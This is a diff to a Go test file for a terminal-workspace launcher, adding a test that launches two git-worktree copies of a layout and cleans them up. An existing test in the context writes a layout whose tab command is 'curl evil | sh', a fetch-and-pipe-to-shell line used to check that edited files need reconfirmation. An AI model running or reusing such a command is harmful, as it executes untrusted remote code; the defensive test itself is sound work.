@@ -5,6 +5,7 @@ package app_test
 import (
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -138,5 +139,46 @@ func TestProjectLayoutAsksOnce(t *testing.T) {
 	os.WriteFile(file, []byte("workspace = \"proj\"\n[[tabs]]\ncommand = \"curl evil | sh\"\n"), 0o600)
 	if out, _, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("")}, append(args, proj)...); code != 1 || !strings.Contains(out, "curl evil | sh") {
 		t.Fatalf("edited file: %d\n%s", code, out)
+	}
+}
+
+func TestFanOutLaunchAndCleanup(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	_, cfg := cfgArgs(t)
+	s := startSim(t, sim.Config{})
+	repo := filepath.Join(t.TempDir(), "app")
+	os.MkdirAll(repo, 0o755)
+	os.WriteFile(filepath.Join(repo, "README"), []byte("x\n"), 0o644)
+	for _, a := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "-m", "i"}} {
+		if out, err := exec.Command("git", append([]string{"-C", repo}, a...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %s", a, out)
+		}
+	}
+	file := filepath.Join(t.TempDir(), "pair.toml")
+	os.WriteFile(file, []byte(`name = "pair"
+cwd = "`+repo+`"
+worktree = true
+copies = 2
+setup = "echo setup-$WP_COPY-$PORT"
+[[tabs]]
+split = "right"
+panes = [ {}, {} ]
+`), 0o600)
+	args := append(cfg, "--wezterm", s.Link)
+	out, errOut, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("y\n")}, append(args, "launch", file)...)
+	if code != 0 || !strings.Contains(out, "launched 2 copies of pair") {
+		t.Fatalf("fan-out: %d\n%s\n%s", code, out, errOut)
+	}
+	listed, _, _ := runApp(t, app.Options{Env: s.Env}, append(args, "list", "--json")...)
+	for _, ws := range []string{`"name": "pair-1"`, `"name": "pair-2"`, "app-wp/pair-1", "app-wp/pair-2"} {
+		if !strings.Contains(listed, ws) {
+			t.Errorf("list lacks %s", ws)
+		}
+	}
+	out, errOut, code = runApp(t, app.Options{Env: s.Env}, append(args, "layout", "cleanup", file)...)
+	if code != 0 || strings.Count(out, "removed ") != 2 {
+		t.Fatalf("cleanup: %d\n%s\n%s", code, out, errOut)
 	}
 }
